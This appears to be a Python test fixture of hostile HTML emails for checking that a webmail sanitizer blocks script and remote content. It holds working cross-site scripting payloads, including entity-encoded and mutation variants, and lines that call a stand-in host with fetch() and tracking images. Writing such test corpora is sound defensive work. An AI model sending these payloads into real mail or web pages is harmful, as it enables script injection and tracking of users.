"""Hostile mail for the webmail: each entry is (name, HTML body). Every payload
tries to run script (an alert, or a request to evil.example) or to load
something from another host; none may succeed while remote content is blocked."""

from __future__ import annotations

import base64

EVIL = "https://evil.example"

HTML: list[tuple[str, str]] = [
    ("script-tag", "<script>alert('script')</script><script src='https://evil.example/x.js'></script>"),
    ("img-onerror", "<img src=x onerror=\"alert('onerror')\">"),
    ("body-onload", "<body onload=\"alert('onload')\"><p>hi</p></body>"),
    ("javascript-url", "<a id=j href=\"javascript:alert('js-url')\">click</a>"
                       "<a href=\"  jAvAsCrIpT:alert('case')\">case</a>"
                       "<a href=\"java&#x09;script:alert('tab')\">tab</a>"),
    ("data-url", "<a href=\"data:text/html,<script>alert('data')</script>\">data</a>"
                 "<iframe src=\"data:text/html,<script>alert('data-frame')</script>\"></iframe>"
                 "<img src=\"data:image/svg+xml,<svg onload=alert('svg-data') xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("svg", "<svg onload=\"alert('svg')\"><script>alert('svg-script')</script>"
            "<a xlink:href=\"javascript:alert('svg-link')\"><text>x</text></a>"
            "<image href=\"https://evil.example/svg-image.png\"/>"
            "<animate attributeName=href to=javascript:alert('animate')/></svg>"),
    ("mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style>"
               "</mglyph></table></mtext><maction actiontype=statusline "
               "xlink:href=\"javascript:alert('math')\">x</maction></math>"),
    ("css-expression", "<div style=\"width: expression(alert('expr')); background: "
                       "url(https://evil.example/bg.png)\">css</div>"
                       "<p style=\"behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#x)\">b</p>"),
    ("style-element", "<style>@import url(https://evil.example/import.css); body { background:"
                      " url(https://evil.example/body.png) }</style>"
                      "<link rel=stylesheet href=\"https://evil.example/link.css\">"),
    ("base-tag", "<base href=\"https://evil.example/\"><img src=\"pixel.gif\"><a href=\"page\">rel</a>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">"
                     "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('refresh')\">"),
    ("frames-objects", "<iframe src=\"https://evil.example/frame\"></iframe>"
                       "<object data=\"https://evil.example/object.swf\"></object>"
                       "<embed src=\"https://evil.example/embed.swf\">"
                       "<object data=\"javascript:alert('object')\"></object>"),
    ("remote-images", "<img src=\"https://evil.example/track.gif\"><img src=\"http://evil.example/plain.gif\">"
                      "<img src=\"//evil.example/proto-relative.gif\">"
                      "<img srcset=\"https://evil.example/srcset.png 1x\">"
                      "<picture><source srcset=\"https://evil.example/picture.png\"><img alt=p></picture>"
                      "<table background=\"https://evil.example/table.png\"><tr><td>t</td></tr></table>"
                      "<input type=image src=\"https://evil.example/input.png\">"
                      "<video poster=\"https://evil.example/poster.png\"></video>"),
    ("malformed", "<<script>alert('lt')//<</script><scr<script>ipt>alert('split')</scr</script>ipt>"
                  "<img \"\"\"><script>alert('quotes')</script>\">"
                  "<div><p><b><i>unclosed <a href=x>nested"),
    ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>"),
    ("events", "<details open ontoggle=\"alert('toggle')\"><summary>s</summary></details>"
               "<video><source onerror=\"alert('source')\"></video><audio src=x onerror=alert('audio')>"
               "<form action=\"https://evil.example/form\"><input name=x autofocus "
               "onfocus=\"alert('focus')\"><button>go</button></form>"
               "<marquee onstart=\"alert('marquee')\">m</marquee>"),
    ("entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#39;ent&#39;&#41;>"
                 "<a href=\"&#106;avascript:alert('entity-url')\">e</a>"),
    ("fetch", "<img src=x onerror=\"fetch('https://evil.example/fetch')\">"
              "<script>new Image().src='https://evil.example/image'</script>"),
]


def encoded_word(text: str) -> str:
    return "=?utf-8?B?" + base64.b64encode(text.encode()).decode() + "?="


def messages(to: str) -> list[tuple[str, bytes]]:
    """(marker, raw message) for every entry, plus headers that carry markup."""
    out: list[tuple[str, bytes]] = []
    for name, html in HTML:
        marker = f"marker-{name}"
        raw = (f"From: Mallory <mallory@remote.test>\r\nTo: {to}\r\nSubject: xss {name}\r\n"
               "Date: Thu, 03 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
               "Content-Type: text/html; charset=utf-8\r\n\r\n"
               f"<p>{marker}</p>{html}\r\n")
        out.append((marker, raw.encode()))
    markup = "<script>alert('subject')</script><img src=x onerror=alert('subject-img')>"
    raw = (f"From: {encoded_word('<img src=x onerror=alert(1)>Mallory')} <mallory@remote.test>\r\n"
           f"To: {to}\r\nSubject: {encoded_word('xss headers ' + markup)}\r\n"
           "Date: Thu, 03 Dec 2026 10:00:00 +0000\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
           "marker-headers <script>alert('plain')</script>\r\n")
    out.append(("marker-headers", raw.encode()))
    return out
